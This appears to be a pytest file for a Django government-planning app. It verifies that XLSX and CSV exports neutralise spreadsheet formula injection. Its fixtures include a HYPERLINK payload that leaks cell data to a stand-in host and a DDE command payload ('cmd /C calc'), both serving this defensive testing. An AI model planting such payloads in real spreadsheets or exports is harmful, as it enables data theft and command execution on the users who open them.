"""Nothing SAKIP writes into a workbook or a CSV runs when it is opened (DESIGN section 5):
text that starts like a formula ("=HYPERLINK(…)", "+1", "-2", "@SUM(A1)", a tab) typed into
an uraian, a nama or a penjelasan is a string cell in every XLSX export, and is neutralised
with a leading apostrophe (OWASP) in the CSV exports."""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from anggaran.services import realisasi_anggaran_simpan
from evaluasi import services as evaluasi_services
from evaluasi.models import Jawaban, Kriteria, Pihak
from kinerja import services
from renstra import services_pohon
from renstra.models import Indikator, Pejabat, PeriodeRPJMD
from sakip import xlsx
from sakip.tables import teks_csv_aman
from tests.kinerja.dunia import siapkan

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
SERANGAN = {
    "tujuan": HYPERLINK,
    "sasaran": "+1+cmd|' /C calc'!A0",
    "program": "-2+3",
    "kegiatan": "@SUM(A1:A9)",
    "sub": "\t=1+1",
    "indikator": "=1+1",
    "penjelasan": "\r=2+2",
    "unit": "=UNIT()",
}
AWAL_RUMUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def d(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    d = siapkan(settings, tmp_path)
    d.periode.tujuan_set.update(uraian=SERANGAN["tujuan"])
    type(d.sasaran).objects.filter(pk=d.sasaran.pk).update(uraian=SERANGAN["sasaran"])
    type(d.program).objects.filter(pk=d.program.pk).update(nama=SERANGAN["program"])
    type(d.kegiatan).objects.filter(pk=d.kegiatan.pk).update(nama=SERANGAN["kegiatan"])
    type(d.sub_a).objects.filter(pk=d.sub_a.pk).update(nama=SERANGAN["sub"])
    Indikator.objects.filter(pk__in=[d.ind_persen.pk, d.ind_kategori.pk]).update(
        uraian=SERANGAN["indikator"], formula=HYPERLINK
    )
    type(d.unit_a).objects.filter(pk=d.unit_a.pk).update(nama=SERANGAN["unit"])
    Pejabat.objects.create(
        pemda=d.pemda, opd=d.opd, nama="@Kepala", nip="1", jabatan="=Kepala Dinas", is_kepala=True
    )
    services.realisasi_simpan(
        user=d.operator,
        indikator=d.ind_persen,
        tahun=d.tahun,
        triwulan=d.triwulan,
        versi=0,
        nilai="50",
        penjelasan=SERANGAN["penjelasan"],
    )
    services.realisasi_simpan(  # the template writes an n/a row's reason too
        user=d.operator,
        indikator=d.ind_rasio,
        tahun=d.tahun,
        triwulan=d.triwulan,
        versi=0,
        tidak_terukur=True,
        alasan_tidak_terukur=SERANGAN["penjelasan"].strip() + " alasan",
    )
    realisasi_anggaran_simpan(
        user=d.operator,
        sub_kegiatan=d.sub_a,
        tahun=d.tahun,
        triwulan=d.triwulan,
        jumlah="1.000.000",
        versi=0,
        penjelasan=SERANGAN["penjelasan"],
    )
    return d


def _dokumen(jenis):
    return lambda d: (f"laporan:{jenis}", [d.opd.slug, d.tahun], "")


def _pohon_kinerja(d):
    """The tree of the world's plan (cascaded from its Renstra), then its workbook."""
    rpjmd = PeriodeRPJMD.objects.create(
        pemda=d.pemda, tahun_awal=d.periode.tahun_awal, tahun_akhir=d.periode.tahun_akhir
    )
    services_pohon.pohon_dari_renstra(periode_rpjmd=rpjmd, periode=d.periode)
    return ("laporan:pohon_kinerja_xlsx", [d.opd.slug, d.tahun], "")


def _skp(name):
    def alamat(d):
        _pohon_kinerja(d)
        pejabat = Pejabat.objects.filter(opd=d.opd, node_pohon_set__isnull=False).first()
        return (f"laporan:{name}", [d.opd.slug, d.tahun, pejabat.pk], "")

    return alamat


def _matriks(jenis):
    return lambda d: ("laporan:matriks_xlsx", [d.opd.slug, d.periode.pk, jenis], "")


def _lke(d):
    """The LKE workbook, with a self-assessment note that looks like a formula."""
    evaluasi = evaluasi_services.evaluasi_buka(opd=d.opd, tahun=d.tahun)
    kriteria = Kriteria.objects.get(sub_komponen__komponen__versi=evaluasi.versi, kode="1.a.1")
    Jawaban.objects.create(
        evaluasi=evaluasi,
        kriteria=kriteria,
        pihak=Pihak.MANDIRI,
        jawaban="Y",
        catatan=SERANGAN["penjelasan"],
    )
    return ("evaluasi:lke_xlsx", [d.opd.slug, d.tahun], "")


# Every XLSX download, by URL name (a new one must be added here: see the guard below).
def _dasbor_pemda(d):
    # The Pemda workbook names OPDs, not plan rows: the OPD's name carries the attack.
    type(d.opd).objects.filter(pk=d.opd.pk).update(nama=SERANGAN["unit"])
    return ("kinerja:dasbor_pemda_xlsx", [], f"?tahun={d.tahun}&triwulan={d.triwulan}")


EKSPOR_XLSX = {
    "pk_xlsx": _dokumen("pk_xlsx"),
    "rencana_aksi_xlsx": lambda d: (
        "laporan:rencana_aksi_xlsx",
        [d.opd.slug, d.tahun],
        f"?unit={d.unit_a.slug}",
    ),
    "lkjip_xlsx": _dokumen("lkjip_xlsx"),
    "iku_xlsx": _dokumen("iku_xlsx"),
    "cascading_xlsx": _dokumen("cascading_xlsx"),
    "pohon_kinerja_xlsx": _pohon_kinerja,
    "skp_xlsx": _skp("skp_xlsx"),
    "pengukuran_xlsx": lambda d: (
        "laporan:pengukuran_xlsx",
        [d.opd.slug, d.tahun, d.triwulan],
        "",
    ),
    "matriks_xlsx t-c-23": _matriks("t-c-23"),
    "matriks_xlsx t-c-24": _matriks("t-c-24"),
    "matriks_xlsx t-c-27": _matriks("t-c-27"),
    "matriks_xlsx t-c-28": _matriks("t-c-28"),
    "renstra_ekspor": lambda d: ("anggaran:renstra_ekspor", [d.periode.pk], ""),
    "pagu_ekspor": lambda d: ("anggaran:pagu_ekspor", [d.opd.slug, d.tahun], ""),
    "realisasi_templat": lambda d: ("kinerja:realisasi_templat", [d.tahun, d.triwulan], ""),
    "realisasi_list": lambda d: ("kinerja:realisasi_list", [], f"?tahun={d.tahun}&_export=xlsx"),
    "indikator_list": lambda d: ("kinerja:indikator_list", [], f"?tahun={d.tahun}&_export=xlsx"),
    "subkegiatan_list": lambda d: (
        "kinerja:subkegiatan_list",
        [],
        f"?tahun={d.tahun}&_export=xlsx",
    ),
    "lke_xlsx": _lke,
    "dasbor_opd_xlsx": lambda d: (
        "kinerja:dasbor_opd_xlsx",
        [d.opd.slug],
        f"?tahun={d.tahun}&triwulan={d.triwulan}",
    ),
    "dasbor_pemda_xlsx": _dasbor_pemda,
    "realisasi_anggaran_list": lambda d: (
        "anggaran:realisasi_anggaran_list",
        [],
        f"?tahun={d.tahun}&_export=xlsx",
    ),
}
# The template of the Renstra import is a POST of its form (below); t-c-27.xlsx redirects.
BUKAN_UNDUHAN_GET = {"tc27_xlsx"}


def _nama_url(resolver=None, prefix=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            ns = f"{pattern.namespace}:" if pattern.namespace else ""
            yield from _nama_url(pattern, prefix + ns)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + pattern.name, str(pattern.pattern)


def test_every_xlsx_address_of_the_app_is_checked_here():
    alamat = {name.split(":")[-1] for name, route in _nama_url() if route.endswith(".xlsx")}
    diperiksa = {key.split()[0] for key in EKSPOR_XLSX} | BUKAN_UNDUHAN_GET
    assert alamat <= diperiksa, alamat - diperiksa


def _sel(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_tanpa_rumus(content):
    """No formula cell, and the injected text is there, as a string, unchanged."""
    wb = load_workbook(io.BytesIO(content))
    cells = list(_sel(wb))
    rumus = [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert rumus == []
    injeksi = [c for c in cells if isinstance(c.value, str) and c.value.startswith(AWAL_RUMUS)]
    assert injeksi, "the export holds at least one of the injected texts"
    assert {c.data_type for c in injeksi} == {"s"}
    assert {c.value for c in injeksi} & set(SERANGAN.values())


@pytest.mark.parametrize("kasus", list(EKSPOR_XLSX))
def test_text_that_looks_like_a_formula_is_a_string_cell_in_every_xlsx_export(client, d, kasus):
    name, args, query = EKSPOR_XLSX[kasus](d)
    pengguna = d.operator if name == "kinerja:realisasi_templat" else d.admin
    client.force_login(pengguna)
    response = client.get(reverse(name, args=args) + query)
    assert response.status_code == 200, (kasus, response.content[:300])
    assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
    assert_tanpa_rumus(response.content)


def test_the_renstra_import_template_writes_unit_names_as_text(client, d):
    client.force_login(d.admin)
    response = client.post(
        reverse("anggaran:renstra_impor"),
        {"opd": d.opd.pk, "periode": "2021-2026", "template": "1"},
    )
    assert response.status_code == 200, response.content[:300]
    wb = load_workbook(io.BytesIO(response.content))
    cells = list(_sel(wb))
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == SERANGAN["unit"] and c.data_type == "s" for c in cells)


@pytest.mark.parametrize(
    "name",
    [
        "kinerja:realisasi_list",
        "kinerja:indikator_list",
        "kinerja:subkegiatan_list",
        "anggaran:realisasi_anggaran_list",
    ],
)
def test_csv_exports_neutralise_text_that_a_spreadsheet_would_run(client, d, name):
    client.force_login(d.admin)
    response = client.get(reverse(name) + f"?tahun={d.tahun}&_export=csv")
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    berbahaya = []
    for cell in cells:
        if cell.startswith(AWAL_RUMUS):
            try:
                Decimal(cell)  # a negative number is a number, not text
            except InvalidOperation:
                berbahaya.append(cell)
    assert berbahaya == []
    assert any(c.startswith("'") and c[1:] in SERANGAN.values() for c in cells)


def test_the_skp_csv_neutralises_an_officials_name_and_title_that_look_like_formulas(client, d):
    name, args, _ = _skp("skp_csv")(d)
    client.force_login(d.admin)
    response = client.get(reverse(name, args=args))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'@Kepala" in cells and "'=Kepala Dinas" in cells
    assert not [c for c in cells if c.startswith(("=", "@", "+"))]


@pytest.mark.parametrize("text", ["=1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_csv_rule_prefixes_an_apostrophe_to_formula_like_text_only(text):
    assert teks_csv_aman(text) == "'" + text
    assert teks_csv_aman("Persentase PMKS") == "Persentase PMKS"
    assert teks_csv_aman(Decimal("-5")) == Decimal("-5")


def test_the_listing_exports_offer_only_csv_and_xlsx(client, d):
    client.force_login(d.admin)
    for fmt in ("tsv", "json", "yaml", "ods", "xls", "latex"):
        response = client.get(reverse("kinerja:realisasi_list") + f"?_export={fmt}")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/html")


def test_the_one_writer_turns_formula_and_error_text_into_strings():
    wb = xlsx.workbook_baru()
    ws = wb.create_sheet("Uji")
    ws["A1"] = "=HYPERLINK(1)"
    ws["A2"] = "#N/A"
    ws["A3"] = 86
    wb2 = load_workbook(io.BytesIO(xlsx.simpan_bytes(wb)))
    a1, a2, a3 = (wb2["Uji"][c] for c in ("A1", "A2", "A3"))
    assert (a1.value, a1.data_type) == ("=HYPERLINK(1)", "s")
    assert (a2.value, a2.data_type) == ("#N/A", "s")
    assert (a3.value, a3.data_type) == (86, "n")
    wo = xlsx.workbook_baru(write_only=True)
    ws = wo.create_sheet("Uji")
    ws.append([xlsx.sel_write_only(ws, "=1+1")])
    cell = load_workbook(io.BytesIO(xlsx.simpan_bytes(wo)))["Uji"]["A1"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")
